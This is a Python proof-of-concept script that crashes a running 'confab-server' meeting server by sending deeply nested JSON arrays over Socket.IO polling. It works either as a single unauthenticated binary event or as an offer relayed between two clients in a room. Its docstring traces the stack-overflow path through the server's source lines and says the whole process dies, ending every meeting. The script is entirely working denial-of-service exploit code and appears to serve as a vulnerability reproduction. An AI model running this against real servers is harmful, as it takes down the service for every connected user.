#!/usr/bin/env python3
"""Crashes a running confab-server (any build) with deeply nested JSON: stack overflow.

  repro_deep_nesting.py HOST PORT binary [DEPTH]   one unauthenticated client, one POST
  repro_deep_nesting.py HOST PORT relay  [DEPTH]   two clients in a room, one offer

binary: a BINARY_EVENT whose data nests DEPTH arrays (default 50000, 100 KB, well under the
1 MB maxPayload). socketio::Decoder::complete -> fill_placeholders recurses once per level
(server/socketio/packet.cpp:33-34) before any handler runs. Release build: SIGSEGV.
relay: an offer with an extra field nesting DEPTH arrays (default 400000). Meeting relays the
payload; SocketOutbox::send copies it into Socket::emit's by-value argument
(server/app/meeting_gateway.cpp:7, socket.cpp:24), a recursive json copy; socketio::encode's
has_binary/extract_binary and json::dump recurse too (packet.cpp:43-44, 50-67). Release: SIGSEGV.
Either way the whole process dies: every meeting on the server ends."""
import http.client, json, sys

host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
depth = int(sys.argv[4]) if len(sys.argv) > 4 else (50000 if mode == "binary" else 400000)


def req(method, path, body=None):
    c = http.client.HTTPConnection(host, port, timeout=10)
    c.request(method, path, body=body.encode() if body else None,
              headers={"Content-Type": "text/plain;charset=UTF-8"})
    r = c.getresponse()
    return r.status, r.read().decode(errors="replace")


def client():
    _, b = req("GET", "/socket.io/?EIO=4&transport=polling")
    path = f"/socket.io/?EIO=4&transport=polling&sid={json.loads(b[1:])['sid']}"
    req("POST", path, "40")
    _, b = req("GET", path)  # 40{"sid":...}
    return path, json.loads(b[2:])["sid"]


nest = "[" * depth + "]" * depth
a, a_id = client()
if mode == "binary":
    body = '451-["a",' + nest + ']\x1ebAQ=='
else:
    b, b_id = client()
    for path in (a, b):
        req("POST", path, '421["join_room",{"room":"r"}]')
        req("GET", path)
    body = ('422["offer",{"other_user_id":"%s","offer":{"type":"offer","sdp":"v=0"},"x":%s}]'
            % (b_id, nest))
print(f"{mode}: sending {len(body)} bytes")
try:
    print("answer:", req("POST", a, body))
except Exception as e:  # the server died mid-request
    print("no answer:", type(e).__name__, e)
